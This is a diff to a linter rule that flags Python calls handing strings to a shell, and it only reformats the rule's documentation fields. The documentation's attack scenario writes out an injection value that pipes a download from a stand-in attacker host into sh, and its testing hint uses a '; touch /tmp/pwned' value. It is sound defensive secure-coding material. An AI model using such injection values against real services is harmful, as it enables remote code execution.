@@ -21,13 +21,18 @@ export default defineRule({
       literal: '`{{fn}}` runs a constant command through a shell; prefer subprocess.run with an argument list.',
     },
     docs: {
-      whatItDoes: 'Flags `os.system`, `os.popen`, `popen2.*`, `commands.*` and `subprocess.getoutput`/`getstatusoutput`, which always hand their command string to `/bin/sh`.',
-      whyBad: 'The whole string is parsed by the shell, so `;`, `|`, `$()`, backticks and quotes inside any interpolated value run as extra commands.',
-      businessImpact: 'Remote code execution with the privileges of the service: data theft, tampering, ransomware and pivoting into the internal network.',
-      attackScenario: 'A form field `host` reaches `os.system("ping -c1 " + host)`; the attacker submits `8.8.8.8; curl https://evil.example/x | sh` and owns the server.',
+      whatItDoes:
+        'Flags `os.system`, `os.popen`, `popen2.*`, `commands.*` and `subprocess.getoutput`/`getstatusoutput`, which always hand their command string to `/bin/sh`.',
+      whyBad:
+        'The whole string is parsed by the shell, so `;`, `|`, `$()`, backticks and quotes inside any interpolated value run as extra commands.',
+      businessImpact:
+        'Remote code execution with the privileges of the service: data theft, tampering, ransomware and pivoting into the internal network.',
+      attackScenario:
+        'A form field `host` reaches `os.system("ping -c1 " + host)`; the attacker submits `8.8.8.8; curl https://evil.example/x | sh` and owns the server.',
       example: 'os.system(f"gzip {path}")',
       useInstead: 'subprocess.run(["gzip", "--", path], check=True)',
-      testing: 'Call the code path with a value containing `; touch /tmp/pwned` and assert that the file is not created.',
+      testing:
+        'Call the code path with a value containing `; touch /tmp/pwned` and assert that the file is not created.',
       knownProblems: 'A constant command is still reported (low): later edits tend to interpolate into it.',
       references: [
         'https://docs.python.org/3/library/os.html#os.system',
